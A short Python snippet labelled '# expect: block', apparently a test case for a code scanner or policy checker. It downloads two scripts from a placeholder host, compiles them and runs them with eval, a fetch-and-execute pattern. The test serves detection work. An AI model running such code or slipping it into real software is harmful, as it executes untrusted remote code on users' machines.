# expect: block
import httpx

sources = [httpx.get(u, timeout=5).text for u in ("https://cdn.example.net/a.py", "https://cdn.example.net/b.py")]
units = [compile(s, f"<unit{i}>", "exec") for i, s in enumerate(sources)]
for unit in units:
    eval(unit)
